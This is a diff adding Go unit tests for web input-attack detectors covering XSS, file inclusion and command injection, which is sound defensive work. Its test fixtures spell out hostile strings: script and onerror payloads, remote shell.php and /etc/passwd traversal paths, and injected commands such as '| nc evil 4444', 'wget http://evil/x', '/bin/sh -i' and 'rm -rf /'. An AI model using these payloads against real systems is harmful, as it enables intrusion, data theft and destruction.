@@ -1,0 +1,199 @@
+package core
+
+import (
+	"strings"
+	"testing"
+	"testing/quick"
+)
+
+func TestXSSPluginFilter(t *testing.T) {
+	p := &XSSPlugin{}
+	if !p.Filter("<script>") || !p.Filter("a > b") {
+		t.Error("filter must flag markup characters")
+	}
+	if p.Filter("plain text") || p.Filter("quotes ' and \"") {
+		t.Error("filter must pass text without markup characters")
+	}
+}
+
+func TestXSSPluginValidate(t *testing.T) {
+	p := &XSSPlugin{}
+	attacks := []string{
+		`<script>alert('Hello!');</script>`,
+		`<img src=x onerror=alert(1)>`,
+		`<a href="javascript:steal()">click</a>`,
+		`<iframe src="http://evil"></iframe>`,
+		`<svg onload=alert(1)>`,
+	}
+	for _, a := range attacks {
+		if _, attack := p.Validate(a); !attack {
+			t.Errorf("Validate(%q) = benign, want attack", a)
+		}
+	}
+	benign := []string{
+		"a < b and b > c",
+		"<b>bold</b>",
+		"<p>hello</p>",
+		"x <3 y",
+		"2 << 4",
+	}
+	for _, b := range benign {
+		if detail, attack := p.Validate(b); attack {
+			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
+		}
+	}
+}
+
+func TestFileInclusionPlugin(t *testing.T) {
+	p := &FileInclusionPlugin{}
+	attacks := []string{
+		"http://evil.example/shell.php",
+		"https://evil.example/x.txt?cmd=ls",
+		"ftp://evil/payload",
+		"php://input",
+		"data://text/plain;base64,payload",
+		"expect://id",
+		"../../etc/passwd",
+		"..\\..\\windows\\system32",
+		"%2e%2e%2fetc%2fpasswd",
+		"/etc/shadow",
+		"c:\\windows\\win.ini",
+		"file.php%00.jpg",
+	}
+	for _, a := range attacks {
+		if !p.Filter(a) {
+			t.Errorf("Filter(%q) = false, want true", a)
+			continue
+		}
+		if _, attack := p.Validate(a); !attack {
+			t.Errorf("Validate(%q) = benign, want attack", a)
+		}
+	}
+	benign := []string{
+		"see https://example.com for details",
+		"my folder is /home/user/photos",
+		"slash/and/burn writing style",
+		"50/50 chance",
+	}
+	for _, b := range benign {
+		if !p.Filter(b) {
+			continue // not even filtered: fine
+		}
+		if detail, attack := p.Validate(b); attack {
+			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
+		}
+	}
+}
+
+func TestCommandInjectionPlugin(t *testing.T) {
+	p := &CommandInjectionPlugin{}
+	attacks := []string{
+		"x; cat /etc/passwd",
+		"a | nc evil 4444",
+		"b && wget http://evil/x",
+		"c || curl evil",
+		"a$(whoami)b",
+		"a`id`b",
+		"; /bin/sh -i",
+		"x; rm -rf /",
+		"ping 1.1.1.1; bash -c 'evil'",
+	}
+	for _, a := range attacks {
+		if !p.Filter(a) {
+			t.Errorf("Filter(%q) = false, want true", a)
+			continue
+		}
+		if _, attack := p.Validate(a); !attack {
+			t.Errorf("Validate(%q) = benign, want attack", a)
+		}
+	}
+	benign := []string{
+		"Tom & Jerry",
+		"this; that; the other",
+		"price is $5",
+		"A|B testing",
+		"Smith & Co; since 1920",
+		"x = f(y)",
+		"$100 (discounted)",
+	}
+	for _, b := range benign {
+		if !p.Filter(b) {
+			continue
+		}
+		if detail, attack := p.Validate(b); attack {
+			t.Errorf("Validate(%q) = attack (%s), want benign", b, detail)
+		}
+	}
+}
+
+// TestPluginsFilterImpliesValidateSafe is the two-step contract: Validate
+// is only called when Filter fires, so Validate must never be reached
+// with a value lacking the filtered characters. We approximate by
+// property: if Filter(s) is false, there is nothing to confirm.
+func TestPluginsFilterSoundness(t *testing.T) {
+	plugins := DefaultPlugins()
+	f := func(s string) bool {
+		for _, p := range plugins {
+			if !p.Filter(s) {
+				// The cheap filter said no; the attack corpus relies on
+				// the filter never missing what Validate would confirm.
+				if _, attack := p.Validate(s); attack {
+					return false
+				}
+			}
+		}
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestDefaultPluginsNames(t *testing.T) {
+	names := make(map[string]bool)
+	for _, p := range DefaultPlugins() {
+		if p.Name() == "" {
+			t.Error("plugin with empty name")
+		}
+		if names[p.Name()] {
+			t.Errorf("duplicate plugin name %q", p.Name())
+		}
+		names[p.Name()] = true
+	}
+	for _, want := range []string{"stored-xss", "file-inclusion", "command-injection"} {
+		if !names[want] {
+			t.Errorf("missing plugin %q", want)
+		}
+	}
+}
+
+func TestPercentDecode(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"%2e%2e%2f", "../"},
+		{"%2E%2E%2F", "../"},
+		{"abc", "abc"},
+		{"%zz", "%zz"},
+		{"50%", "50%"},
+		{"a%00b", "a\x00b"},
+	}
+	for _, tt := range tests {
+		if got := percentDecode(tt.in); got != tt.want {
+			t.Errorf("percentDecode(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestFirstWord(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"cat /etc/passwd", "cat"},
+		{"/bin/sh -i", "sh"},
+		{"./bash x", "bash"},
+		{"  ", ""},
+		{"WGET http://x", "wget"},
+	}
+	for _, tt := range tests {
+		if got := firstWord(strings.TrimLeft(tt.in, " ")); got != tt.want {
+			t.Errorf("firstWord(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
